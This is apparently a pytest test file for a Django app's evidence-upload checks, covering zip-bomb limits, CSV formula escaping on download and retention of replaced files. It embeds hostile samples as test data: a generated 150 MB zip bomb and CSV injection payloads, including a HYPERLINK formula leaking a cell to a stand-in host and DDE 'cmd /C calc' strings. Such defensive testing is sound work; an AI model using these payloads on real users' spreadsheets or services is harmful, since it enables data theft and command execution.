"""Hostile evidence files (issue 10 item 4): zip bombs judged by declared sizes, CSV served so formulas
cannot run, and replaced evidence kept in history, never orphaned."""

from __future__ import annotations

import datetime as dt
import io
import tracemalloc
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from forbetter.accounts.models import Role
from forbetter.performance import services, uploads
from forbetter.performance.models import KpiReturn
from forbetter.performance.uploads import EvidenceFileError, check_evidence_file
from tests.conftest import World
from tests.factories import client_for, make_contract_live, make_kpi, pdf

MB = 1024 * 1024
NOW = timezone.make_aware(dt.datetime(2024, 6, 5, 10))
ODS_MIMETYPE = b"application/vnd.oasis.opendocument.spreadsheet"


def _bomb(parts: dict[str, tuple[bytes, int]]) -> bytes:
    """A deflated zip whose part ``name`` is ``head`` followed by ``megabytes`` MB of spaces."""
    buffer = io.BytesIO()
    chunk = b" " * MB
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, (head, megabytes) in parts.items():
            with archive.open(name, "w") as handle:
                handle.write(head)
                for _ in range(megabytes):
                    handle.write(chunk)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def ods_bomb() -> bytes:
    """An ODS whose ``mimetype`` part expands to 150 MB (about 150 KB stored), like the issue's file."""
    return _bomb({"mimetype": (ODS_MIMETYPE, 150), "content.xml": (b"<x/>", 0)})


def _peak_bytes_while(action: Any) -> tuple[int, Any]:
    tracemalloc.start()
    try:
        try:
            outcome: Any = action()
        except EvidenceFileError as error:
            outcome = error
        return tracemalloc.get_traced_memory()[1], outcome
    finally:
        tracemalloc.stop()


def test_zip_bomb_is_refused_by_its_declared_size_without_expanding_it(ods_bomb: bytes) -> None:
    """OWASP File Upload Cheat Sheet: check an archive's declared uncompressed size before extracting.
    The 150 MB bomb is refused naming the 100 MB limit while Python's allocations peak under 8 MB (the
    upload itself is 0.15 MB); reading the part, as before, took more than 150 MB."""
    assert len(ods_bomb) < 200 * 1024
    peak, outcome = _peak_bytes_while(
        lambda: check_evidence_file("returns.ods", len(ods_bomb), io.BytesIO(ods_bomb))
    )
    assert isinstance(outcome, EvidenceFileError)
    assert "would expand to 150 MB when opened, more than the limit of 100 MB" in str(outcome)
    assert peak < 8 * MB, f"peak {peak / MB:.1f} MB"


def test_a_lying_mimetype_part_is_never_read_beyond_a_few_bytes() -> None:
    """A part declaring 20 MB (under the total limit) is not read at all: the ODS check reads only a
    ``mimetype`` declaring itself at most 100 bytes; and the ratio limit refuses it first."""
    bomb = _bomb({"mimetype": (ODS_MIMETYPE, 20), "content.xml": (b"<x/>", 0)})
    peak, outcome = _peak_bytes_while(lambda: check_evidence_file("a.ods", len(bomb), io.BytesIO(bomb)))
    assert isinstance(outcome, EvidenceFileError)
    assert f"more than the limit of {uploads.MAX_RATIO} times" in str(outcome)
    assert peak < 4 * MB


def test_office_document_with_too_many_parts_is_refused_naming_the_limit(settings: Any) -> None:
    """Part-count limit: a zip with thousands of tiny parts costs time and memory to list and open."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<x/>")
        archive.writestr("xl/workbook.xml", b"<x/>")
        for index in range(uploads.MAX_PARTS):
            archive.writestr(f"xl/p{index}.xml", b"")
    content = buffer.getvalue()
    with pytest.raises(EvidenceFileError, match=r"2,002 parts inside it, more than the limit of 2,000"):
        check_evidence_file("a.xlsx", len(content), io.BytesIO(content))


def test_ordinary_office_documents_pass_the_archive_limits() -> None:
    """A real-looking workbook with a 2 MB sheet of varied figures stays well inside every limit."""
    sheet = "".join(f"<c r='A{n}'><v>{n * 7919 % 100003}</v></c>" for n in range(60_000)).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<x/>")
        archive.writestr("xl/workbook.xml", b"<x/>")
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    content = buffer.getvalue()
    assert check_evidence_file("a.xlsx", len(content), io.BytesIO(content)).extension == "xlsx"


# ------------------------------------------------------------------------------------ pages


@pytest.fixture
def media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def _submit(world: World, kpi: Any, evidence: SimpleUploadedFile, **kw: Any) -> KpiReturn:
    make_contract_live(world.ours)  # returns start when the KPI is agreed and the contract is live
    return services.return_submit(
        user=world.users[Role.PARTNER_USER],
        partnership=world.ours,
        kpi_id=kpi.pk,
        period=dt.date(2024, 4, 1),
        value=Decimal("96"),
        evidence=evidence,
        now=NOW,
        **kw,
    )


@pytest.mark.django_db
def test_zip_bomb_upload_is_refused_on_the_page_with_the_limit_named(
    world: World, media: Path, ods_bomb: bytes
) -> None:
    kpi = make_kpi(world.ours)
    make_contract_live(world.ours)  # returns start when the KPI is agreed and the contract is live
    page = client_for(world.users[Role.PARTNER_USER]).post(
        reverse("performance:return-submit", kwargs={"pk": world.ours.pk}),
        {
            "kpi": str(kpi.pk),
            "period": "2024-04",
            "value": "96.5",
            "commentary": "",
            "evidence": SimpleUploadedFile("returns.ods", ods_bomb, ODS_MIMETYPE.decode()),
        },
    )
    assert page.status_code == 200
    assert "more than the limit of 100 MB for an office document" in page.content.decode()
    assert not KpiReturn.objects.exists()
    assert not any(path.is_file() for path in media.rglob("*"))


HOSTILE_CSV = (
    b"period,value,note\r\n"
    b'2024-04,-12.5,=HYPERLINK("http://evil.example/?"&A1;"click")\r\n'
    b"2024-05,+3,\"@SUM(1+1)*cmd|' /C calc'!A0\"\r\n"
    b"2024-06,7,-2+3+cmd|' /C calc'!A0\r\n"
    b"2024-07,8,\t=1+1\r\n"
    b"2024-08,9,+44 20 7946 0000\r\n"
)


@pytest.mark.django_db
def test_csv_evidence_is_downloaded_with_formula_cells_escaped(world: World, media: Path) -> None:
    """OWASP "CSV Injection": a cell starting = + - @ tab or carriage return is prefixed with an
    apostrophe so a spreadsheet shows it as text; plain signed numbers stay numbers. The download is an
    attachment with ``nosniff``, and the stored evidence stays byte for byte what the partner sent."""
    kpi = make_kpi(world.ours)
    record = _submit(world, kpi, SimpleUploadedFile("pack.csv", HOSTILE_CSV, "text/csv"))
    response = client_for(world.users[Role.AUDITOR]).get(
        reverse("performance:return-evidence", kwargs={"pk": world.ours.pk, "return_pk": record.pk})
    )
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="pack.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    lines = response.content.decode().split("\r\n")
    assert lines[1] == '2024-04,-12.5,"\'=HYPERLINK(""http://evil.example/?""&A1;""click"")"'
    assert lines[2] == "2024-05,+3,'@SUM(1+1)*cmd|' /C calc'!A0"
    assert lines[3] == "2024-06,7,'-2+3+cmd|' /C calc'!A0"
    assert lines[4] == "2024-07,8,'\t=1+1"
    assert lines[5] == "2024-08,9,'+44 20 7946 0000"
    for line in lines[1:]:
        for cell in line.split(",")[2:]:
            assert not cell.lstrip('"').startswith(uploads.FORMULA_STARTS)
    assert Path(record.evidence_file.path).read_bytes() == HOSTILE_CSV


@pytest.mark.django_db
def test_csv_evidence_that_is_not_valid_csv_is_downloaded_as_plain_text(world: World, media: Path) -> None:
    kpi = make_kpi(world.ours)
    record = _submit(world, kpi, SimpleUploadedFile("pack.csv", b"a,b\n" + b"x" * 140_000, "text/csv"))
    response = client_for(world.users[Role.AUDITOR]).get(
        reverse("performance:return-evidence", kwargs={"pk": world.ours.pk, "return_pk": record.pk})
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="pack.csv.txt"'
    assert response["X-Content-Type-Options"] == "nosniff"


def _stored_files(media: Path) -> set[str]:
    return {path.relative_to(media).as_posix() for path in media.rglob("*") if path.is_file()}


def _referenced_files() -> set[str]:
    current = set(KpiReturn.objects.exclude(evidence_file="").values_list("evidence_file", flat=True))
    history = set(
        KpiReturn.history.model.objects.exclude(evidence_file="").values_list("evidence_file", flat=True)
    )
    return current | history


@pytest.mark.django_db
def test_replaced_evidence_is_kept_in_history_and_no_stored_file_is_unreferenced(
    world: World, media: Path
) -> None:
    """Decision: a corrected return's earlier evidence is kept and named by its history row (what the
    partner first submitted is part of the audit trail); every file in MEDIA_ROOT is named by a return
    or a history row."""
    kpi = make_kpi(world.ours)
    first = _submit(world, kpi, pdf("first.pdf"))
    first_name = first.evidence_file.name
    second = _submit(world, kpi, pdf("second.pdf"))
    assert second.pk == first.pk
    assert second.evidence_file.name != first_name
    assert (media / first_name).is_file()
    assert _stored_files(media) == _referenced_files()
    assert first_name in set(
        KpiReturn.history.model.objects.filter(id=first.pk).values_list("evidence_file", flat=True)
    )


@pytest.mark.django_db
def test_a_replacement_that_fails_to_save_leaves_no_orphan_file(
    world: World, media: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Writes are atomic: when the row cannot be written, the file stored for it is removed too."""
    kpi = make_kpi(world.ours)
    _submit(world, kpi, pdf("first.pdf"))
    before = _stored_files(media)

    def fail(*args: Any, **kwargs: Any) -> None:
        raise RuntimeError("database went away")

    monkeypatch.setattr(services, "_save", fail)
    with pytest.raises(RuntimeError):
        _submit(world, kpi, pdf("second.pdf"))
    assert _stored_files(media) == before == _referenced_files()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b'council,period,value,source\n"' + b"a" * 200_000 + b'",2024-04,1,x\n', "cannot be read as CSV"),
        (_bomb({"sheet.xml": (b"<x/>", 1)}), "The file must be a CSV saved as UTF-8 text"),
    ],
    ids=["cell-over-the-csv-field-limit", "zip-renamed-csv"],
)
def test_benchmark_import_answers_hostile_csv_with_a_message_not_a_server_error(
    world: World, editor: Any, content: bytes, message: str
) -> None:
    """The comparator CSV import is the other upload path: a cell over the csv module's 128 KB field
    limit raised csv.Error (a 500); a renamed archive is refused as not being UTF-8 text, unexpanded."""
    kpi = make_kpi(world.ours)
    client = Client(raise_request_exception=False)
    client.force_login(editor)
    response = client.post(
        reverse("performance:benchmark-import", kwargs={"pk": world.ours.pk, "kpi_pk": kpi.pk}),
        {"file": SimpleUploadedFile("comparators.csv", content, "text/csv")},
    )
    assert response.status_code == 200
    assert message in response.content.decode()


def test_formula_escaping_docstring_examples_hold() -> None:
    import doctest

    outcome = doctest.testmod(uploads)
    assert outcome.attempted >= 1
    assert outcome.failed == 0
